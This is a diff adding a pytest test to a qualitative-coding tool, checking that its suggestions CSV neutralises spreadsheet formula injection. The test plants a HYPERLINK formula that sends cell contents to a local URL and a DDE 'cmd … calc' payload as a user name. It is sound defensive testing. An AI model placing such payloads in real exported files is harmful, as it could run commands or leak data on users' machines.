@@ -395,3 +395,42 @@ def test_the_export_says_its_texts_are_not_redacted(hostile_project, tmp_path, c
     assert main(["export", str(hostile_project), str(tmp_path / "b.qdpx"), "--redact"]) == 0
     assert "not redacted" not in capsys.readouterr().err
     assert _leaked("".join(_qdpx(tmp_path / "b.qdpx").values())) == []
+
+
+# ------------------------------------------------------------------------------ suggestions.csv
+def test_the_suggestion_store_coders_open_runs_no_formula(hostile_project):
+    """``suggestions.csv`` is the coders' working file (docs/coding.md): a source ID such as
+    ``=HYPERLINK(…)`` (valid in sources.csv) must not become a live formula there, and must
+    come back as it was when the store is read and a suggestion accepted."""
+    import pandas as pd
+
+    from copeval.coding import (
+        accept_suggestions,
+        read_suggestions,
+        suggest_codes,
+        write_suggestions,
+    )
+    from copeval.project import load_project
+
+    from .outputs import csv_formula_cells
+
+    evil = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"ver")'
+    for name in ("sources.csv", "segments.csv"):
+        table = pd.read_csv(hostile_project / name, dtype=str, keep_default_na=False)
+        table["source_id"] = table["source_id"].replace("A-I01", evil)
+        table.to_csv(hostile_project / name, index=False)
+    project = load_project(hostile_project)
+    assert evil in set(project.sources["source_id"])
+    path = write_suggestions(project, suggest_codes(project))
+    assert csv_formula_cells(path) == []
+    store = read_suggestions(project)
+    assert evil in set(store["source_id"])
+    assert store["suggestion_id"].str.startswith(evil).any()
+    mine = store.loc[store["source_id"] == evil, "suggestion_id"].iloc[:1].tolist()
+    accept_suggestions(project, ids=mine, user="=cmd|' /C calc'!A0")
+    assert csv_formula_cells(path) == []
+    again = read_suggestions(project)
+    assert set(again.loc[again["status"] == "accepted", "suggestion_id"]) == set(mine)
+    assert "=cmd|' /C calc'!A0" in set(again["decided_by"])
+    segments = load_project(hostile_project).segments
+    assert (segments["source_id"] == evil).sum() >= 2  # the planted segment and the accepted one
